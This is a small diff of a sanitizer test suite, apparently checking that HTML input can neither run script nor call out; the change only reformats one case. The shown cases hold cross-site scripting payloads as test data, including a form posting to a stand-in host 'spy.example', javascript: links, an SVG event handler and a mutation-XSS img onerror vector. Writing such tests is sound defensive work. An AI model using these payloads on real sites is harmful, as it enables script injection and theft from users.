@@ -45,7 +45,10 @@ describe('lets nothing run and nothing call out', () => {
       '<form action="https://spy.example/"><input name="body"><button formaction="javascript:1">x</button></form>',
     ],
     ['a vector picture', '<svg><animate onbegin="parent.ran = 1"></animate><a xlink:href="javascript:1">x</a></svg>'],
-    ['maths that act', '<math><maction actiontype="statusline" xlink:href="javascript:parent.ran = 1">x</maction></math>'],
+    [
+      'maths that act',
+      '<math><maction actiontype="statusline" xlink:href="javascript:parent.ran = 1">x</maction></math>',
+    ],
     [
       'a mutation',
       '<math><mtext><table><mglyph><style><img src=x onerror="parent.ran = 1"></style></mglyph></table></mtext></math>',
